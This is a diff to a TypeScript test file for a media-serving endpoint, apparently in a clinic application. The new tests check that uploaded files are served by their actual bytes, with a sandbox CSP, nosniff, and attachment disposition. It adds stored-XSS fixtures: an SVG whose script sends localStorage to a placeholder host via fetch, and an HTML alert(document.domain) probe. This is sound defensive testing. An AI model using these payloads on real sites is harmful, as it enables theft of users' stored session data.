@@ -19,6 +19,21 @@ const HOUR = 3600_000;
 const link = { clinicId: 7, key: 'med_42', filename: 'Report.pdf', mime: 'application/pdf' };
 const E = Date.parse('2026-11-01T20:00:00Z') / 1000;
 const tokenOf = (url: string) => url.slice(url.lastIndexOf('/') + 1);
+const CSP = "sandbox; default-src 'none'";
+const OCTETS = 'application/octet-stream';
+const SVG = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x/"+JSON.stringify(localStorage))</script></svg>',
+);
+const HTML = Buffer.from('<!doctype html><script>alert(document.domain)</script>');
+const XML = Buffer.from(
+  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
+);
+/** A GIF89a header, a 1×1 image: what the sniffer reads of a GIF. */
+const GIF = Buffer.concat([
+  Buffer.from('GIF89a', 'latin1'),
+  Buffer.from([1, 0, 1, 0, 0, 0, 0]),
+  Buffer.from(';'),
+]);
 
 /** A token in the documented format, signed like the service signs (to reach the checks after the signature). */
 function signed(payload: unknown, secret = SECRET): string {
@@ -211,6 +226,7 @@ describe('serveMedia over HTTP', () => {
     expect(res.status).toBe(404);
     expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
     expect(res.headers.get('cache-control')).toBe('no-store');
+    expect(res.headers.get('content-security-policy')).toBe(CSP);
     expect(await res.json()).toEqual({
       error: {
         code: 'not_found',
@@ -233,6 +249,7 @@ describe('serveMedia over HTTP', () => {
       'content-disposition': 'inline',
       'cache-control': 'private, max-age=32400',
       'x-content-type-options': 'nosniff',
+      'content-security-policy': CSP,
     });
     expect(Buffer.from(await res.arrayBuffer()).equals(png())).toBe(true);
   });
@@ -299,11 +316,85 @@ describe('serveMedia over HTTP', () => {
     await expectNotFound(await fetch(`${base}${path}`));
   });
 
+  // Rows put straight into the store, as a row from before types were sniffed (or one written by
+  // hand) would be: what is served follows the bytes, never the row's word alone (issue 34).
+  it.each([
+    {
+      what: 'an SVG stored as image/svg+xml',
+      bytes: SVG,
+      stored: 'image/svg+xml',
+      type: OCTETS,
+      disposition: 'attachment',
+    },
+    {
+      what: 'HTML stored as text/html',
+      bytes: HTML,
+      stored: 'text/html',
+      type: OCTETS,
+      disposition: 'attachment',
+    },
+    {
+      what: 'HTML stored as image/png',
+      bytes: HTML,
+      stored: 'image/png',
+      type: OCTETS,
+      disposition: 'attachment',
+    },
+    {
+      what: 'a PNG stored as image/svg+xml',
+      bytes: png(),
+      stored: 'image/svg+xml',
+      type: OCTETS,
+      disposition: 'attachment',
+    },
+    {
+      what: 'XML (an SVG with a prolog)',
+      bytes: XML,
+      stored: 'application/xml',
+      type: 'application/xml',
+      disposition: 'attachment',
+    },
+    { what: 'a GIF', bytes: GIF, stored: 'image/gif', type: 'image/gif', disposition: 'inline' },
+    { what: 'a PNG', bytes: png(), stored: 'image/png', type: 'image/png', disposition: 'inline' },
+  ])(
+    '$what is served as $type, $disposition, under the sandbox CSP',
+    async ({ bytes, stored, type, disposition }) => {
+      clock.set(T0);
+      const key = await store.put(clinicA, bytes, stored);
+      for (const method of ['GET', 'HEAD']) {
+        const res = await fetch(sign({ key, mime: stored }).url, { method });
+        expect(res.status).toBe(200);
+        expect(Object.fromEntries(res.headers)).toMatchObject({
+          'content-type': type,
+          'content-disposition': disposition,
+          'content-security-policy': CSP,
+          'x-content-type-options': 'nosniff',
+        });
+        const body = Buffer.from(await res.arrayBuffer());
+        expect(body.equals(method === 'GET' ? bytes : Buffer.alloc(0))).toBe(true);
+      }
+    },
+  );
+
+  it('a recording in a WebM container is served as the audio/webm it was kept as, an attachment under its name', async () => {
+    clock.set(T0);
+    // The EBML header with DocType "webm": what the sniffer reads of a WebM file.
+    const webm = Buffer.from(
+      '1a45dfa39f4286810142f7810142f2810442f381084282847765626d4287810442858102',
+      'hex',
+    );
+    const key = await store.put(clinicA, webm, 'audio/webm');
+    const res = await fetch(sign({ key, mime: 'audio/webm', filename: 'call_1.webm' }).url);
+    expect(res.headers.get('content-type')).toBe('audio/webm');
+    expect(res.headers.get('content-disposition')).toBe('attachment; filename="call_1.webm"');
+  });
+
   it('another method is a 405 naming GET and HEAD', async () => {
     clock.set(T0);
     const res = await fetch(sign({ key: imageKey, mime: 'image/png' }).url, { method: 'POST' });
     expect(res.status).toBe(405);
     expect(res.headers.get('allow')).toBe('GET, HEAD');
+    expect(res.headers.get('content-security-policy')).toBe(CSP);
     expect((await res.json()).error.code).toBe('method_not_allowed');
   });
 });
